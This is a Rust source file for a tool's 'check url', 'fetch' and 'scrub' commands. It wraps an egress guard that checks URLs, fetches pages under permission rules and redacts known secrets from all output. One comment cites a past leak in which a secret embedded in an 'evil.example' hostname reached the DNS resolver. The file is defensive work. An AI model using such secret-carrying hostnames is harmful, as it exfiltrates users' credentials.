//! `ploy check url`, `ploy fetch`, `ploy scrub`: thin wrappers over
//! `ploy-egress` (the checks, the guarded fetcher and the scrubber live there).

use std::{path::PathBuf, process::ExitCode};

use ploy_egress::{
    FetchOutcome, Refusal, SecretDoor,
    blocking::{self, NameSource, SetupError},
};
use ploy_policy::{ConversationRules, ProjectTrust, RuleSource, Rules};
use ploy_secrets::SecretSet;

/// Arguments of `ploy check url`.
#[derive(Debug, clap::Args)]
pub struct CheckUrlArgs {
    /// The URL to check.
    pub url: String,
    /// Run only the text stage (no DNS).
    #[arg(long)]
    pub no_resolve: bool,
    /// Answer names from a hosts(5)-format file instead of DNS.
    #[arg(long, value_name = "FILE")]
    pub hosts: Option<PathBuf>,
    /// Print machine-readable JSON.
    #[arg(long)]
    pub json: bool,
}

/// Arguments of `ploy fetch`.
#[derive(Debug, clap::Args)]
pub struct FetchArgs {
    /// The URL to fetch.
    pub url: String,
    /// Answer names from a hosts(5)-format file instead of DNS.
    #[arg(long, value_name = "FILE")]
    pub hosts: Option<PathBuf>,
    /// Print machine-readable JSON.
    #[arg(long)]
    pub json: bool,
}

/// Arguments of `ploy scrub`.
#[derive(Debug, clap::Args)]
pub struct ScrubArgs {
    /// The search phrase to scrub.
    pub phrase: String,
    /// Print machine-readable JSON (which classes were removed, never the text).
    #[arg(long)]
    pub json: bool,
}

const EXIT_REFUSED: u8 = 1;
const EXIT_USAGE: u8 = 2;
const EXIT_INTERRUPTED: u8 = 130;

fn name_source(hosts: Option<PathBuf>) -> NameSource {
    hosts.map_or(NameSource::System, NameSource::HostsFile)
}

fn setup_failed(err: &SetupError) -> ExitCode {
    eprintln!("ploy: {err}");
    match err {
        SetupError::Hosts(_) => {
            eprintln!("hint: --hosts takes a hosts(5) file: `ADDRESS NAME [ALIAS...]` per line");
        }
        SetupError::Resolver(_) => {
            eprintln!(
                "hint: check /etc/resolv.conf, or answer names from a file with --hosts FILE"
            );
        }
        _ => {}
    }
    ExitCode::from(EXIT_USAGE)
}

fn print_refusal(refusal: &Refusal) {
    eprintln!("ploy: {refusal}");
    print_refusal_hint(refusal);
}

fn print_refusal_hint(refusal: &Refusal) {
    eprintln!(
        "hint: ploy fetches only public http(s) addresses written plainly; see `{}` in docs/requirements.md",
        refusal.rule
    );
}

fn print_json(value: &serde_json::Value) {
    match serde_json::to_string_pretty(value) {
        Ok(text) => println!("{text}"),
        Err(err) => eprintln!("ploy: cannot print JSON: {err}"),
    }
}

/// `ploy check url URL [--no-resolve] [--hosts FILE] [--json]`: exit 0 when
/// allowed, 1 when refused (rule and reason on stderr or in the JSON), 2 on
/// a usage problem.
pub fn check(args: CheckUrlArgs) -> ExitCode {
    if args.no_resolve && args.hosts.is_some() {
        eprintln!("ploy: --no-resolve and --hosts do not go together");
        eprintln!(
            "hint: --no-resolve runs only the text stage; --hosts answers names for resolution"
        );
        return ExitCode::from(EXIT_USAGE);
    }
    // BEYOND-6 before any name is resolved: a name that carries a known
    // secret sends it to the resolver (round8 #2: `ploy check url
    // https://<key>.evil.example/` was a read-only command that leaked).
    let secrets = match user_rules_and_secrets() {
        Ok((_, secrets)) => secrets,
        Err(err) => {
            eprintln!("ploy: {err}");
            eprintln!("hint: `ploy config check` shows what is wrong in settings.json");
            return ExitCode::from(EXIT_USAGE);
        }
    };
    if let Err(refusal) = SecretDoor::from_set(&secrets).check_sent_text(&args.url) {
        if args.json {
            print_json(&serde_json::json!({
                "url": secrets.redactor().redact(&args.url),
                "allowed": false,
                "resolved": false,
                "rule": refusal.rule,
                "stage": refusal.stage,
                "reason": refusal.reason,
            }));
        } else {
            eprintln!("ploy: {refusal}");
            eprintln!("hint: the address carries a secret ploy knows; it was not resolved");
        }
        return ExitCode::from(EXIT_REFUSED);
    }
    let source = (!args.no_resolve).then(|| name_source(args.hosts));
    let verdict = match blocking::check_url(&args.url, source.as_ref()) {
        Ok(verdict) => verdict,
        Err(err) => return setup_failed(&err),
    };
    if args.json {
        print_json(&serde_json::json!({
            "url": verdict.url,
            "allowed": verdict.allowed(),
            "normalised": verdict.normalised,
            "resolved": verdict.resolved,
            "addresses": verdict.addresses,
            "rule": verdict.refusal.as_ref().map(|r| r.rule),
            "stage": verdict.refusal.as_ref().map(|r| r.stage),
            "reason": verdict.refusal.as_ref().map(|r| r.reason.clone()),
        }));
    }
    match &verdict.refusal {
        Some(refusal) => {
            if !args.json {
                print_refusal(refusal);
            }
            ExitCode::from(EXIT_REFUSED)
        }
        None => {
            if !args.json {
                let scope = if verdict.resolved {
                    let list: Vec<String> =
                        verdict.addresses.iter().map(ToString::to_string).collect();
                    format!("resolved and checked: {}", list.join(", "))
                } else {
                    "text stage only".to_owned()
                };
                println!(
                    "allowed: {} ({scope})",
                    verdict.normalised.as_deref().unwrap_or(&verdict.url)
                );
            }
            ExitCode::SUCCESS
        }
    }
}

/// `ploy fetch URL [--hosts FILE] [--json]`: prints the page text (or JSON
/// with status, final URL, content type, truncated flag, redirects and the
/// address connected to). Exit 0 for a page, 1 for any other outcome.
pub fn fetch(args: FetchArgs) -> ExitCode {
    // A page is hostile text: it may echo a secret this process knows (a key
    // in the environment). Everything printed passes the one redactor, and
    // no request carries one of those secrets (BEYOND-6). PERM-1: the fetch
    // and each redirect hop are `Action::web` through `Permission::assert`
    // under the user's rules (a deny refuses).
    let (rules, secrets) = match user_rules_and_secrets() {
        Ok(found) => found,
        Err(err) => {
            eprintln!("ploy: {err}");
            eprintln!("hint: `ploy config check` shows what is wrong in settings.json");
            return ExitCode::from(EXIT_USAGE);
        }
    };
    let redactor = secrets.redactor();
    let gate = ploy_research::web_gate::web_gate("fetch", rules, ConversationRules::new());
    let outcome = match blocking::fetch(
        &args.url,
        &name_source(args.hosts),
        SecretDoor::from_set(&secrets),
        Some(gate),
    ) {
        Ok(Ok(outcome)) => outcome,
        Ok(Err(_cancelled)) => {
            eprintln!("ploy: fetch cancelled");
            return ExitCode::from(EXIT_INTERRUPTED);
        }
        Err(err) => return setup_failed(&err),
    };
    // A page cut at the size cap may end inside a secret whose rest never
    // arrived: that partial secret is removed too (REDACT-1, CAP-1).
    let outcome = match outcome {
        FetchOutcome::Page(mut page) if page.truncated => {
            page.text = redactor.redact_cut_tail(&page.text).into_owned();
            FetchOutcome::Page(page)
        }
        other => other,
    };
    if args.json {
        match serde_json::to_string_pretty(&outcome) {
            Ok(text) => println!("{}", redactor.redact(&text)),
            Err(err) => eprintln!("ploy: cannot print JSON: {err}"),
        }
    }
    match outcome {
        FetchOutcome::Page(page) => {
            if !args.json {
                print!("{}", redactor.redact(&page.text));
                if page.truncated {
                    eprintln!(
                        "ploy: the page was cut at {} bytes (FETCH-1)",
                        page.body_bytes
                    );
                }
            }
            ExitCode::SUCCESS
        }
        other => {
            if !args.json {
                match other {
                    FetchOutcome::Refused(refusal) => {
                        eprintln!("{}", redactor.redact(&format!("ploy: {refusal}")));
                        print_refusal_hint(&refusal);
                    }
                    FetchOutcome::HttpStatus { status, url, .. } => {
                        eprintln!("ploy: {} answered HTTP {status}", redactor.redact(&url));
                    }
                    FetchOutcome::NetworkError { url, detail } => {
                        let line = format!("ploy: fetching {url} failed: {detail}");
                        eprintln!("{}", redactor.redact(&line));
                        eprintln!("hint: check the network, or the name with `ploy check url`");
                    }
                    FetchOutcome::TimedOut { phase, url } => {
                        let line = format!("ploy: fetching {url} timed out ({phase:?})");
                        eprintln!("{}", redactor.redact(&line));
                    }
                    FetchOutcome::Page(_) => {}
                }
            }
            ExitCode::from(EXIT_REFUSED)
        }
    }
}

/// The rule layers of the user's settings over the defaults: the defaults
/// alone when there is no settings file; an unreadable or invalid file is an
/// error (CONFIG-1), never silently ignored. A settings file without the
/// mandatory profile still contributes its rules (fetching needs no profile).
/// With them, the run's known secrets (`run_secrets`: the environment, the
/// current folder's `.env` files, settings `secrets`; an unreadable one is
/// an error).
fn user_rules_and_secrets() -> Result<(Rules, SecretSet), String> {
    let dirs = ploy_trust::PloyDirs::from_env().map_err(|e| e.to_string())?;
    let user = ploy_trust::load_user_settings(&dirs).map_err(|e| e.to_string())?;
    let mut rules = Rules::builtin();
    if let Some(settings) = &user.settings {
        rules = rules.with_layer(
            settings.rule_layer(RuleSource::User),
            ProjectTrust::Untrusted,
        );
    }
    let project = std::env::current_dir().ok();
    let secrets = ploy_research::command::run_secrets(project.as_deref(), user.settings.as_ref())
        .map_err(|e| e.to_string())?;
    Ok((rules, secrets))
}

/// `ploy scrub PHRASE [--json]`: prints the scrubbed phrase (nothing when it
/// is empty); with `--json`, which classes were removed, never the text.
pub fn scrub(args: ScrubArgs) -> ExitCode {
    let redactor = SecretSet::from_process_env().redactor();
    let scrubbed = ploy_egress::scrub(&args.phrase, &redactor);
    if args.json {
        print_json(&serde_json::json!({
            "phrase": (!scrubbed.is_empty()).then(|| scrubbed.text()),
            "sent": !scrubbed.is_empty(),
            "cut": scrubbed.was_cut(),
            "removed": scrubbed.removed(),
        }));
    } else if !scrubbed.is_empty() {
        println!("{}", scrubbed.text());
    }
    ExitCode::SUCCESS
}
